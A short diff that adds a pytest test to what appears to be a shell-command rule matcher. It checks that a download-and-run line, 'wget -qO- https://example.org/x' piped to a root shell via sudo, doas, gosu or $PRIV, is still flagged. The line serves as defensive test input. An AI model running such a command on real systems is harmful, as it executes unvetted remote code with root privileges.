@@ -54,3 +54,10 @@ def test_names_are_those_of_rules_that_may_match() -> None:
 def test_a_rule_about_any_command_leaves_nothing_out() -> None:
     assert names_for([a_rule()])("echo") is None
     assert names_for([])("curl") == frozenset()
+
+
+@pytest.mark.parametrize("runs", ["$PRIV sh", "doas sh", "gosu root sh", "sudo sh"])
+def test_root_need_not_be_called_sudo(runs: str) -> None:
+    names = names_for(load())(f"wget -qO- https://example.org/x | {runs}\n")
+    assert names is not None
+    assert "wget" in names
